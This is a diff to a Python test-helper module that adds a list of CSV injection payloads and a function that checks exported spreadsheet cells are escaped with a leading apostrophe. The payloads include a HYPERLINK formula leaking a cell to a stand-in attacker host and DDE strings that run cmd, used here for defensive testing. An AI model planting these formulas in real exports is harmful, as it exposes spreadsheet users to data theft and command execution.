@@ -7,7 +7,39 @@ import subprocess
 import sys
 from collections.abc import Iterable
 
-__all__ = ("check_exports", "imported_modules")
+__all__ = (
+    "CSV_INJECTION_PAYLOADS",
+    "check_csv_inert",
+    "check_exports",
+    "imported_modules",
+)
+
+CSV_INJECTION_PAYLOADS: tuple[str, ...] = (
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for results")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+)
+"""Cell texts a spreadsheet runs as formulas (OWASP's CSV injection examples, one per prefix)."""
+
+CSV_INERT_TEXTS: tuple[str, ...] = ("-1.5", "+3", "1e-5", "a=b", "plain text", "")
+"""Texts that must come back unchanged: plain numbers and text not starting a formula."""
+
+
+def check_csv_inert(cells: Iterable[str], *, sent: Iterable[str]) -> None:
+    """Assert that CSV cells read back (with the csv module) are the texts `sent`, made inert.
+
+    Each payload of [`CSV_INJECTION_PAYLOADS`][crucible_core.testing.CSV_INJECTION_PAYLOADS] must
+    come back with a leading `'` and otherwise unchanged; every other text exactly as sent.
+    """
+    for got, text in zip(cells, sent, strict=True):
+        if text in CSV_INJECTION_PAYLOADS:
+            assert got == "'" + text, f"{text!r} was written as {got!r}, not made inert"
+        else:
+            assert got == text, f"{text!r} was written as {got!r}"
 
 
 def imported_modules(statement: str) -> set[str]:
